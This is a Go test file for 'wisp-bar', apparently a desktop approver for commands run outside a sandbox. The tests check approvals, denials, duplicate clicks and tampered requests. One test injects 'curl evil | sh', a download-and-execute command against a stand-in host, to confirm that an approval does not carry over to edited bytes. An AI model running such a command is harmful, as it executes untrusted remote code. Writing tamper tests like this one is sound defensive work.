package bar

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/wisp-sh/wisp/pending"
)

func pendingDir(t *testing.T) string { return filepath.Join(t.TempDir(), "pending") }

func TestApproveOnceFromTheMenu(t *testing.T) {
	h := start(t, pendingDir(t), true)
	f := h.file("brew upgrade", true)
	m := h.tray.waitMenu(t, "one request", withCount(1))
	h.face.expect(t, "show "+f.Request.ID)
	if b := h.face.banner(f.Request.ID); b.Title != "wisp: approve OUTSIDE the sandbox" || !strings.HasPrefix(b.Body, "brew upgrade\n") {
		t.Errorf("banner %q: %q", b.Title, b.Body)
	}
	if got := m.Items[1].Label; !strings.HasPrefix(got, "OUTSIDE THE SANDBOX: brew upgrade · high · ~/src/wisp · ") {
		t.Errorf("menu item %q", got)
	}

	h.bar.Click(itemKey(t, m, f.Request.ID, "Approve once"))
	d := wait(t, f)
	if !d.Approved || d.Scope != "once" || d.Answer.By != "wisp-bar" || d.Answer.Binding != f.Binding {
		t.Errorf("decision %+v", d)
	}
	h.face.expect(t, "withdraw "+f.Request.ID)
	h.tray.waitMenu(t, "nothing waiting", withCount(0))
}

// The menu says who answered while the request waits for wisp to take the
// answer, then the grey line leaves with the request (issue 28, 13).
func TestAnswerNoticeLeavesWithItsRequest(t *testing.T) {
	h := start(t, pendingDir(t), true)
	f := h.file("make install", false)
	m := h.tray.waitMenu(t, "one request", withCount(1))
	h.bar.Click(itemKey(t, m, f.Request.ID, "Approve once"))
	h.tray.waitMenu(t, "the answer noted", withNotice("approved once by wisp-bar: make install"))
	wait(t, f) // wisp takes the answer: the request is gone
	m = h.tray.waitMenu(t, "the notice gone with the request", func(m Menu) bool {
		return m.Count == 0 && len(m.Items) > 1 && m.Items[1].Separator
	})
	for _, it := range m.Items {
		if strings.Contains(it.Label, "approved once") {
			t.Errorf("the menu still says %q after the request is gone", it.Label)
		}
	}
}

// A notification server that reports one click twice, or a second click,
// writes nothing new.
func TestBannerClickTwiceWritesNothingNew(t *testing.T) {
	h := start(t, pendingDir(t), true)
	f := h.file("make install", false)
	h.face.expect(t, "show "+f.Request.ID)

	h.face.events <- BannerEvent{ID: f.Request.ID, Action: ActionApprove}
	h.face.expect(t, "withdraw "+f.Request.ID)
	h.tray.waitMenu(t, "the answer noted", withNotice("approved once by wisp-bar: make install"))
	answer := filepath.Join(h.dir, f.Request.ID+".answer.json")
	first, firstData := stat(t, answer)

	h.face.events <- BannerEvent{ID: f.Request.ID, Action: ActionApprove}
	h.face.events <- BannerEvent{ID: f.Request.ID, Action: ActionDeny}
	h.tray.waitMenu(t, "the first answer standing", withNotice("already answered"))
	second, secondData := stat(t, answer)
	if !os.SameFile(first, second) || !bytes.Equal(firstData, secondData) {
		t.Errorf("the answer file was written again:\n%s\n%s", firstData, secondData)
	}
	if d := wait(t, f); !d.Approved || d.Scope != "once" {
		t.Errorf("decision %+v, want the first answer: approved once", d)
	}
}

func stat(t *testing.T, path string) (os.FileInfo, []byte) {
	t.Helper()
	info, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return info, data
}

// A click on the banner's body opens details and answers nothing.
func TestBannerBodyOpensDetails(t *testing.T) {
	h := start(t, pendingDir(t), true)
	f := h.file("rm -rf build", true)
	h.face.expect(t, "show "+f.Request.ID)
	h.face.events <- BannerEvent{ID: f.Request.ID, Action: ActionDetails}
	h.face.expect(t, "details "+f.Request.ID)
	if _, err := os.Lstat(filepath.Join(h.dir, f.Request.ID+".answer.json")); !os.IsNotExist(err) {
		t.Errorf("a click on the body wrote an answer (%v)", err)
	}
	h.face.events <- BannerEvent{ID: f.Request.ID, Action: ActionDeny}
	if d := wait(t, f); d.Approved {
		t.Errorf("decision %+v, want denied", d)
	}
}

func TestDenyThenApproveKeepsTheFirstAnswer(t *testing.T) {
	h := start(t, pendingDir(t), false)
	f := h.file("git push --force", false)
	m := h.tray.waitMenu(t, "one request", withCount(1))
	h.bar.Click(itemKey(t, m, f.Request.ID, "Deny"))
	h.tray.waitMenu(t, "the denial", withNotice("denied by wisp-bar: git push --force"))
	h.bar.Click(itemKey(t, m, f.Request.ID, "Approve always"))
	h.tray.waitMenu(t, "the first answer standing", withNotice("already answered: request "+f.Request.ID+" was answered first (deny, once, by wisp-bar)"))
	if d := wait(t, f); d.Approved {
		t.Errorf("decision %+v, want denied", d)
	}
}

func TestClickOnARequestGoneSaysSo(t *testing.T) {
	h := start(t, pendingDir(t), true)
	f := h.file("cargo install ripgrep", true)
	m := h.tray.waitMenu(t, "one request", withCount(1))
	h.face.expect(t, "show "+f.Request.ID)
	f.Withdraw()
	h.tray.waitMenu(t, "nothing waiting", withCount(0))
	h.face.expect(t, "withdraw "+f.Request.ID)

	h.bar.Click(itemKey(t, m, f.Request.ID, "Approve once"))
	h.tray.waitMenu(t, "the notice", withNotice("nothing to answer: request "+f.Request.ID+" is no longer waiting"))
	h.face.expect(t, "show "+NoticeID)
	if b := h.face.banner(NoticeID); b.Title != "wisp: nothing to answer" || len(b.Actions) != 0 {
		t.Errorf("notice banner %+v", b)
	}
}

// An answer is bound to the bytes shown: when the file changes under the
// menu, a click on what was shown writes nothing.
func TestClickOnAChangedRequestWritesNothing(t *testing.T) {
	h := start(t, pendingDir(t), true)
	f := h.file("brew upgrade", true)
	m := h.tray.waitMenu(t, "one request", withCount(1))
	h.face.expect(t, "show "+f.Request.ID)
	old := itemKey(t, m, f.Request.ID, "Approve once")

	edited := rewrite(t, f, func(r map[string]any) { r["command"] = "brew upgrade && curl evil | sh" })
	h.tray.waitMenu(t, "the edited request", func(m Menu) bool {
		return m.Count == 1 && strings.Contains(m.Items[1].Label, "curl evil")
	})
	h.face.expect(t, "show "+f.Request.ID, "withdraw "+f.Request.ID) // raised again with what it now says
	h.bar.Click(old)
	h.tray.waitMenu(t, "the notice", withNotice("request changed: request "+f.Request.ID+" is not what was shown (digest "+pending.Digest(f.Binding)+", now "+pending.Digest(pending.Binding(edited))+")"))
	if _, err := os.Lstat(filepath.Join(h.dir, f.Request.ID+".answer.json")); !os.IsNotExist(err) {
		t.Errorf("an answer was written for bytes no longer there (%v)", err)
	}
}

// rewrite replaces f's request file with an edited copy, as a hostile or
// careless writer would, and returns the new bytes.
func rewrite(t *testing.T, f *pending.Filed, edit func(map[string]any)) []byte {
	t.Helper()
	var r map[string]any
	if err := json.Unmarshal(f.Bytes, &r); err != nil {
		t.Fatal(err)
	}
	edit(r)
	data, err := json.MarshalIndent(r, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	tmp := filepath.Join(filepath.Dir(f.File), ".edit")
	if err := os.WriteFile(tmp, data, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(tmp, f.File); err != nil {
		t.Fatal(err)
	}
	return data
}
